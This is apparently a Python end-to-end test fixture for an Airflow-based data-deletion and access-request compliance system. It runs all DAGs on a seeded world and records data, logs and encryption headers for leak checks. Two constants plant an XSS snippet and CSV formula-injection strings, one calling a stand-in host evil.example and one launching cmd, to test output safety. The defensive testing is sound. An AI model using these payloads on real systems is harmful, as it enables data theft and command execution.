"""One full demo on a seeded world, recorded for the leak scan, the SSE check and the hostile
inbox check (one world and one set of DAG runs for the three: ~8 dag.test runs in all).

Phase 1, hostile inbox: the whole corpus (tests/corpus/hostile/) dropped into the inbox of the
seeded world, deletion_requests run on the corpus's clock (2025-03-10, clients 1 and 2 active,
3 inactive, the manifest's `existing` request on record). Phase 2, demo: real deletion and
access requests dropped, then every DAG in dags/ run once (dag.test, retries off so a failure
shows at once), each with a form that makes it do real work.

Recorded, in memory (later tests wipe the buckets): every consumer identity of the world before
the runs, every workspace object (body and SSE header), every store object version written by
the runs, all XComs, the whole state database, and everything logged or printed during the runs
(dag.test writes no task log files: records are captured in-process by a root logging handler
and a tee on stdout/stderr; log files under AIRFLOW_HOME/logs are read too, if any appear).
"""

from __future__ import annotations

import io
import json
import logging
import os
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import sqlalchemy as sa

from . import harness as h

CORPUS = h.REPO / "tests" / "corpus" / "hostile"
CORPUS_NOW = datetime(2025, 3, 10, 12, 0, tzinfo=UTC)  # tests/unit/test_hostile_corpus.py
HOSTILE_HTML = '<script>alert("cj")</script><img src=x onerror=alert(1)>'
HOSTILE_CSV = ('=HYPERLINK("http://evil.example/?q="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0")


@dataclass
class Demo:
    identities: dict[str, set[str]] = field(default_factory=dict)  # kind -> values
    runs: dict[str, str] = field(default_factory=dict)  # dag id -> final state
    objects: dict[str, bytes] = field(default_factory=dict)  # workspace key -> body
    sse: dict[str, str | None] = field(default_factory=dict)  # written key -> SSE header
    xcoms: list[tuple[str, str]] = field(default_factory=list)  # (where, value)
    state: list[tuple[str, str]] = field(default_factory=list)  # (table, row text)
    logs: str = ""
    log_files: list[tuple[str, str]] = field(default_factory=list)
    corpus: dict[str, Any] = field(default_factory=dict)
    positive_control: str = ""  # a document known to hold identities (the matcher must hit)


class _Tee(io.TextIOBase):
    def __init__(self, *streams: Any) -> None:
        self.streams = streams

    def write(self, text: str) -> int:
        for stream in self.streams:
            stream.write(text)
        return len(text)

    def flush(self) -> None:
        for stream in self.streams:
            stream.flush()


class _Records(logging.Handler):
    def __init__(self, sink: io.StringIO) -> None:
        super().__init__(logging.DEBUG)
        self.sink = sink

    def emit(self, record: logging.LogRecord) -> None:
        try:
            self.sink.write(f"{record.name} {record.getMessage()}\n")
            if record.exc_info:
                self.sink.write(logging.Formatter().formatException(record.exc_info) + "\n")
        except Exception:  # a record that cannot be formatted is not a leak of ours
            self.sink.write(f"{record.name} {record.msg!r}\n")


@contextmanager
def captured(sink: io.StringIO) -> Iterator[None]:
    """Everything logged (stdlib records) or printed while the block runs goes to `sink` too."""
    handler = _Records(sink)
    root = logging.getLogger()
    root.addHandler(handler)
    out, err = sys.stdout, sys.stderr
    sys.stdout, sys.stderr = _Tee(out, sink), _Tee(err, sink)
    try:
        yield
    finally:
        sys.stdout, sys.stderr = out, err
        root.removeHandler(handler)


def identities(crm_url: str) -> dict[str, set[str]]:
    """Every consumer identity and protected value the world holds, before any run."""
    queries = {
        "email": "select email from contacts union select email from contact_aliases",
        "phone": "select phone from contacts union select phone from contact_aliases "
        "union select caller_phone from call_recordings",
        "external_id": "select external_id from contacts",
        "name": "select first_name || ' ' || last_name from contacts",
        "address": "select address_line from contacts",
        "username": "select username from portal_accounts",
        # values R10 says are never output, by anyone
        "drivers_license": "select drivers_license from contacts",
        "bank_account": "select bank_account from payments",
        "card_token": "select card_token from payments",
        "password_hash": "select password_hash from portal_accounts",
        "voiceprint": "select voiceprint from call_recordings",
    }
    eng = sa.create_engine(crm_url)
    out: dict[str, set[str]] = {}
    with eng.connect() as c:
        for kind, sql in queries.items():
            out[kind] = {str(v) for (v,) in c.execute(sa.text(sql)) if v and len(str(v)) >= 6}
    eng.dispose()
    return out


def run_dag(dag_id: str, conf: dict[str, Any] | None = None) -> Any:
    """dag.test() with retries off: a failure ends the run at once instead of waiting 30 s."""
    from airflow.dag_processing.dagbag import DagBag

    dag = DagBag(dag_folder=str(h.REPO / "dags")).dags[dag_id]
    for task in dag.tasks:
        task.retries = 0
    return dag.test(run_conf=conf or {})


def _corpus_phase(demo: Demo, stack: Any, monkeypatch: Any) -> None:
    from compliance import runtime
    from compliance.core.datamap.validate import load_datamap
    from compliance.core.stores.sql import engine_from_url
    from compliance.requests import inbox, state

    manifest = json.loads((CORPUS / "expected.json").read_text())
    crm = engine_from_url(stack.db_url)
    with crm.begin() as c:  # the corpus's clients: 1 and 2 active, 3 inactive
        active = dict(c.execute(sa.text("select client_id, active from clients")).all())
        c.execute(sa.text("update clients set active = (client_id <> 3)"))
    state_engine = engine_from_url(stack.state_url)
    state.create_state_schema(state_engine)
    for n, doc in enumerate(manifest["existing"]):  # already on record (duplicates of it exist)
        stack.s3.put_object(
            Bucket=stack.bucket, Key=f"inbox/1/existing-{n}.json", Body=json.dumps(doc).encode()
        )
    dm = load_datamap(os.environ["COMPLIANCE_DATAMAP"])
    clients = inbox.load_clients(crm, dm.systems["crm"])
    # Left open: only a request still being worked on makes another with the same identities
    # a duplicate (issue 15; a finished one only keeps its request id). The corpus run below
    # then answers it too (no consumer holds those identities: a receipt, nothing erased).
    inbox.ingest(stack.s3, stack.bucket, clients, state_engine, h.HASH_KEY, CORPUS_NOW)

    from tests.e2e import worldview

    log_buckets = {s.bucket for s in dm.stores.values() if s.kind == "log"}
    other = {s.bucket for s in dm.stores.values() if s.kind != "log"}
    before = worldview.take(stack.db_url, stack.s3, log_buckets, other)
    keys = {}
    for name, entry in manifest["documents"].items():
        # every folder but the staff's `ui/` names a client (tenant ids may be any text)
        folder = str(entry["source_client"]) if "source_client" in entry else "ui"
        keys[name] = f"inbox/{folder}/{name}"
        stack.s3.put_object(Bucket=stack.bucket, Key=keys[name], Body=(CORPUS / name).read_bytes())
    monkeypatch.setattr(runtime, "now", lambda: CORPUS_NOW)
    run = run_dag("deletion_requests", {"dry_run": False})
    after = worldview.take(stack.db_url, stack.s3, log_buckets, other)
    day = CORPUS_NOW.date().isoformat()
    reasons = {}
    for name, key in keys.items():
        base = f"rejected/{day}/{inbox._SAFE.sub('_', key[len('inbox/') :])}"
        try:
            body = stack.s3.get_object(Bucket=stack.bucket, Key=base + ".reasons.json")["Body"]
            reasons[name] = json.loads(body.read())
        except stack.s3.exceptions.NoSuchKey:
            reasons[name] = None
    listing = stack.s3.list_objects_v2(Bucket=stack.bucket).get("Contents", [])
    with state_engine.connect() as c:
        rejected = c.execute(
            sa.text("select count(*) from cj_ledger where kind = 'request_rejected'")
        ).scalar()
    with crm.begin() as c:  # the world's own clients again for the demo
        for client, was in active.items():
            c.execute(
                sa.text("update clients set active = :a where client_id = :c"),
                {"a": was, "c": client},
            )
    crm.dispose()
    state_engine.dispose()
    demo.corpus = {
        "state": run.state,
        "expected": manifest["documents"],
        "reasons": reasons,
        "rows_changed": before.rows != after.rows,
        "lines_changed": before.lines != after.lines,
        "objects_changed": before.objects != after.objects,
        "keys": sorted(o["Key"] for o in listing),
        "ledger_rejections": int(rejected),
        # what the erasure of the request on record removed of it (issue 16: its duplicates)
        "existing_receipt": json.loads(
            stack.s3.get_object(Bucket=stack.bucket, Key="receipts/1/hc-existing-1.delete.json")[
                "Body"
            ].read()
        ),
    }


def _requests(crm_url: str) -> dict[str, bytes]:
    """The demo's requests: the crash harness's deletions plus one access request."""
    crm_file = Path(crm_url.removeprefix("sqlite:///"))
    docs = h.deletion_inbox(crm_file)
    eng = sa.create_engine(crm_url)
    with eng.begin() as c:
        contact, client, email = c.execute(
            sa.text(
                "select c.contact_id, c.client_id, c.email from contacts c "
                "join clients k using (client_id) "
                "where k.active and c.email is not null and c.is_child = 0 and not exists "
                "(select 1 from legal_holds h where h.client_id = c.client_id) "
                "order by c.contact_id desc limit 1"
            )
        ).one()
        # Stored text that is hostile to the bundle's readers (test_output_safety.py)
        when = (h.T0 - timedelta(days=30)).replace(tzinfo=None)
        c.execute(
            sa.text(
                "insert into messages (contact_id, client_id, channel, direction, body, "
                "created_at) values (:c, :k, 'sms', 'inbound', :body, :t)"
            ),
            {"c": contact, "k": client, "body": HOSTILE_HTML, "t": when},
        )
        c.execute(
            sa.text(
                "insert into support_tickets (contact_id, client_id, subject, body, created_at) "
                "values (:c, :k, :subject, :body, :t)"
            ),
            {
                "c": contact,
                "k": client,
                "subject": HOSTILE_CSV[0],
                "body": HOSTILE_CSV[1],
                "t": when,
            },
        )
    eng.dispose()
    received = (h.T0 - timedelta(days=2)).isoformat()
    access = {
        "request_id": "ACC-1",
        "client_id": client,
        "type": "access",
        "identities": {"email": email},
        "received_at": received,
        "verification": {"method": "email_link", "verified_at": received, "verified_by": "s7"},
    }
    docs[f"{client}/access.json"] = json.dumps(access).encode()
    return docs


def _conf(dag_id: str, crm_url: str) -> dict[str, Any] | None:
    """A form that makes each DAG do real work (None: the DAG is not one we know yet: {})."""
    if dag_id == "request_extension":
        eng = sa.create_engine(crm_url.replace("crm.db", "state.db"))
        with eng.connect() as c:
            client, request_id = c.execute(
                sa.text(
                    "select client_id, request_id from cj_requests "
                    "where status in ('open', 'deferred') order by id limit 1"
                )
            ).one()
        eng.dispose()
        return {
            "client_id": client,
            "request_id": request_id,
            "type": "delete",
            "notice_at": (h.T0 - timedelta(hours=1)).isoformat(),
            "reason": "the volume of records across several systems",
        }
    return {
        "deletion_requests": {"dry_run": False},
        "access_reports": {"link_expiry_days": 3},
        "data_inventory": {},
        "deadline_watchdog": {"last_check": "2020-01-01T00:00:00+00:00"},
        "statistics_reports": {"period": "year:2025"},
        "retention_sweep": {"dry_run": False, "as_of": h.AS_OF.isoformat()},
    }.get(dag_id)


ORDER = [  # retention last: it deletes what the others report on
    "deletion_requests",
    "access_reports",
    "request_extension",
    "deadline_watchdog",
    "data_inventory",
    "statistics_reports",
    "retention_sweep",
]


def full_demo(stack: Any, monkeypatch: Any) -> Demo:
    """Both phases on the `stack` world; returns what the checks need."""
    from airflow.dag_processing.dagbag import DagBag

    from compliance import runtime

    demo = Demo(identities=identities(stack.db_url))
    sink = io.StringIO()
    with captured(sink):
        _corpus_phase(demo, stack, monkeypatch)
        dm_buckets = _store_buckets()
        before = {b: _versions(stack.s3, b) for b in dm_buckets}
        docs = _requests(stack.db_url)
        for key, body in docs.items():
            stack.s3.put_object(Bucket=stack.bucket, Key=f"inbox/{key}", Body=body)
        demo.positive_control = b"\n".join(docs.values()).decode()
        monkeypatch.setattr(runtime, "now", lambda: h.T0)
        bag = DagBag(dag_folder=str(h.REPO / "dags"))
        for dag_id in [*ORDER, *sorted(set(bag.dags) - set(ORDER))]:
            if dag_id in bag.dags:
                demo.runs[dag_id] = run_dag(dag_id, _conf(dag_id, stack.db_url) or {}).state
    demo.logs = sink.getvalue()
    home = Path(os.environ["AIRFLOW_HOME"]) / "logs"
    demo.log_files = [
        (str(p), p.read_text(errors="replace")) for p in home.rglob("*") if p.is_file()
    ]
    for page in stack.s3.get_paginator("list_objects_v2").paginate(Bucket=stack.bucket):
        for obj in page.get("Contents", []):
            key = obj["Key"]
            demo.objects[key] = stack.s3.get_object(Bucket=stack.bucket, Key=key)["Body"].read()
            if not key.startswith("inbox/"):  # clients write the inbox, the project the rest
                head = stack.s3.head_object(Bucket=stack.bucket, Key=key)
                demo.sse[f"{stack.bucket}/{key}"] = head.get("ServerSideEncryption")
    for bucket in dm_buckets:  # store objects the runs wrote (log rewrites, ...)
        for key, version in _versions(stack.s3, bucket) - before[bucket]:
            head = stack.s3.head_object(Bucket=bucket, Key=key, VersionId=version)
            demo.sse[f"{bucket}/{key}@{version}"] = head.get("ServerSideEncryption")
    _collect_db(demo, stack)
    return demo


def _store_buckets() -> set[str]:
    from compliance.core.datamap.validate import load_datamap

    return {s.bucket for s in load_datamap(os.environ["COMPLIANCE_DATAMAP"]).stores.values()}


def _versions(s3: Any, bucket: str) -> set[tuple[str, str]]:
    out = set()
    for page in s3.get_paginator("list_object_versions").paginate(Bucket=bucket):
        out |= {(v["Key"], v["VersionId"]) for v in page.get("Versions", [])}
    return out


def _collect_db(demo: Demo, stack: Any) -> None:
    from airflow.models.xcom import XComModel
    from airflow.utils.session import create_session

    with create_session() as session:
        for x in session.query(XComModel).all():
            demo.xcoms.append(
                (f"{x.dag_id}.{x.task_id}[{x.map_index}]", json.dumps(x.value, default=str))
            )
    eng = sa.create_engine(stack.state_url)
    with eng.connect() as c:
        for table in sa.inspect(eng).get_table_names():
            for row in c.execute(sa.text(f'select * from "{table}"')):
                demo.state.append((table, json.dumps(list(row), default=str)))
    eng.dispose()
